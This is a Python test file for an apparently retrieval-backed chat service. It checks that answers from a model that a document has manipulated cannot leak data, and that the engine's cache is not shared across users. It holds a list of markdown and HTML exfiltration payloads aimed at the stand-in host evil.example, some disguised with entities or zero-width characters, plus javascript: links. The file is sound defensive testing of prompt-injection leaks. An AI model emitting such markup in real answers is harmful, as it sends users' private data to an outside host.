"""An engine that a document has talked into it: no answer sends anything anywhere."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from api_clients import QUESTION
from api_doors import chat, tool
from api_house import House, open_house
from api_rendered import assert_harmless
from api_samples import LEAVE

from tests.fakes.vllm import FakeVLLM, fake_vllm

EVIL = "//evil.example/?salary"  # CommonMark takes no tag with a bare "=" in an attribute
WRITTEN = {
    "images": (
        f"![chart](https:{EVIL})",
        f"![chart]({EVIL})",
        f"[![chart](https:{EVIL})](https:{EVIL})",
        f"![a![b](https:{EVIL})](https:{EVIL})",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        f"| a | b |\n| - | - |\n| ![x](https:{EVIL}) | <img src=https:{EVIL}> |",
        f"## ![x](https:{EVIL})",
        f"``![x](https:{EVIL})` ![y](https:{EVIL})",
    ),
    "links": (
        f"[more](https:{EVIL})",
        f"[more\nof it](\nhttps:{EVIL}\n)",
        f"<https:{EVIL}>",
        f"https:{EVIL} and www.evil.example/salary",
        "[more](javascript:alert(1)) <javascript:alert(1)>",
    ),
    "references": (
        f"![chart][r] and [more][r] and ![r] and [r]\n\n[r]: https:{EVIL}",
        f"![s]\n\n[s]:\n<https:{EVIL}>\n'x'",
    ),
    "tags": (
        f"<style>@import 'https:{EVIL}'</style><link rel=stylesheet href='https:{EVIL}'>",
        f"<IMG\nSRC='https:{EVIL}'\n>",
        f"<a href=https:{EVIL}>more</a>",
        f"<img src='https:{EVIL}' alt='",
    ),
    "disguises": (
        f"&lt;img src=https:{EVIL}&gt; &#33;&#91;x](https&colon;{EVIL})",
        f"&amp;lt;img src=https:{EVIL}&amp;gt;",
        f"!\u200b[x](\u2060https:{EVIL}) <\u200bimg src=https:{EVIL}>",
    ),
}


@pytest.fixture(scope="module")
def engine() -> Iterator[FakeVLLM]:
    with fake_vllm() as fake:
        yield fake


@pytest.fixture(scope="module")
def house(
    tmp_path_factory: pytest.TempPathFactory, models: Path, engine: FakeVLLM
) -> Iterator[House]:
    folder = tmp_path_factory.mktemp("written")
    options = {"engine_url": engine.url, "allow_unguarded": True}
    with open_house(folder, models, **options) as house:
        yield house


def saying(evil: tuple[str, ...]) -> Any:
    """An engine that adds these to its answer, each once as if a passage said it and once not."""

    def write(body: dict[str, Any]) -> str:
        prompt = body["messages"][-1]["content"]
        keys = re.findall(r"^### \w+ \[(\w{4})\]", prompt[: prompt.index(LEAVE)], re.MULTILINE)
        marker = f"[{keys[-1]}]"
        borne_out = [f"{LEAVE[:-1]} {part} {marker}." for part in evil]
        return "\n\n".join([f"{LEAVE} {marker}", *borne_out, *evil])

    return write


@pytest.mark.parametrize("how", WRITTEN)
def test_nothing_that_an_engine_writes_leads_out_of_the_building(
    house: House, engine: FakeVLLM, how: str
) -> None:
    """Row: an answer carried what it had read to another host, in the address of a picture."""
    engine.answer = saying(WRITTEN[how])
    base = house.live.url
    with house.signed_in("ann") as ann:
        number = ann.post("/v1/conversations", json={}).json()["id"]
        asked = {"question": QUESTION, "conversation_id": number}
        answer = ann.post("/v1/query", json=asked).json()
        whole = chat(ann, QUESTION).json()["choices"][0]["message"]["content"]
        streamed = chat(ann, QUESTION, stream=True).text
        told = tool(ann, "ask", question=QUESTION).json()["result"]["content"][0]["text"]
        saved = ann.get(f"/v1/conversations/{number}/export?format=markdown").text
    assert answer["engine"] == engine.model
    pieces = re.findall(r'"content": ?("(?:[^"\\]|\\.)*")', streamed)
    texts = [
        answer["answer"],
        whole,
        "".join(json.loads(piece) for piece in pieces),
        told,
        saved.replace("\\", ""),
    ]
    for text in texts:
        assert LEAVE in text
    for text in [*texts[:-1], saved]:
        assert_harmless(text, base)


def test_the_engines_cache_is_shared_only_by_those_who_may_read_the_same(
    house: House, engine: FakeVLLM
) -> None:
    """Row: how fast an answer began told what others had asked about."""
    engine.answer = saying(())
    salts = []
    for name in ("ann", "max", "operator"):
        assert house.asked(name, "POST", "/v1/query", json={"question": QUESTION}).is_success
        salts.append(engine.received[-1].body["cache_salt"])
    assert len(set(salts)) == 2 and salts[0] == salts[1], "max may read what ann may"
